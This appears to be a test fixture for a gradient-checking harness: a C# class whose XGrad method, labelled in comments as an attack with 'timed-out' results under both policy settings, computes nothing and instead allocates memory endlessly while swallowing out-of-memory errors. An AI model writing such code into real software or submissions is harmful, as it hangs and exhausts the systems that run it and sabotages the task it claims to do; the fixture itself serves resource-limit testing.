// attack: goes on when there is no memory left
// policy on: timed-out
// policy off: timed-out
using GradCheck.Fixtures;
using MathNet.Numerics.LinearAlgebra;

public class Mine : ISquare
{
    public Matrix<double> XGrad(Matrix<double> yGrad, Matrix<double> x)
    {
        var all = new List<byte[]>();
        while (true)
        {
            try
            {
                while (true)
                    all.Add(new byte[1 << 20]);
            }
            catch (OutOfMemoryException) { }
        }
    }
}
